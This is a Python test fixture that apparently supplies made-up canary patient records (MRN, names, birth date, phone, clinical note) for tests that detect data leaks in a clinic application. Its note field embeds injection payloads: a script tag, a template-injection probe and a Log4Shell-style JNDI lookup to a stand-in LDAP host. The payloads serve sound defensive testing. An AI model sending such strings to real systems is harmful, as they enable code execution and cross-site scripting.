"""The patients that a run is full of: made up, unmistakable, and awkward in every way."""

from tests.leaks.search import Canary

MRN = "7305519284"
NAME = "Zoë “Qzvkxwjyta” O'Canary-Vogelsang"
NOTE = (
    'First line: "Wbtrqpnkzu".\r\nSecond line,\u2028third\u2029fourth; \x1b[31mred\x1b[0m \x00\x07\x7f '
    "half a pair \ud800 and Xkjfqwmzrv \\ / <script>{{7*7}}</script> ${jndi:ldap://h/Pqzvxtwjkb}"
)
KANJI = "山田カナリア花子太郎次郎"
DATE_OF_BIRTH = "1931-07-29"
PHONE = "(941) 555-0173"

WORDING = {
    "patient_name": NAME,
    "patient_first_name": KANJI,
    "patient_mrn": MRN,
    "patient_dob": DATE_OF_BIRTH,
    "patient_phone": PHONE,
    "insurance_subscriber": NAME,
    "reason": f"{NAME}, {DATE_OF_BIRTH}",
    "note": NOTE,
    "progress_note": NOTE + KANJI,
}
"""What every appointment of a clinic says."""

PATIENTS = (
    Canary("MRN", MRN),
    Canary("name", NAME),
    Canary("note", NOTE),
    Canary("name in kanji", KANJI),
    Canary("date of birth", DATE_OF_BIRTH),
    Canary("telephone", PHONE),
)
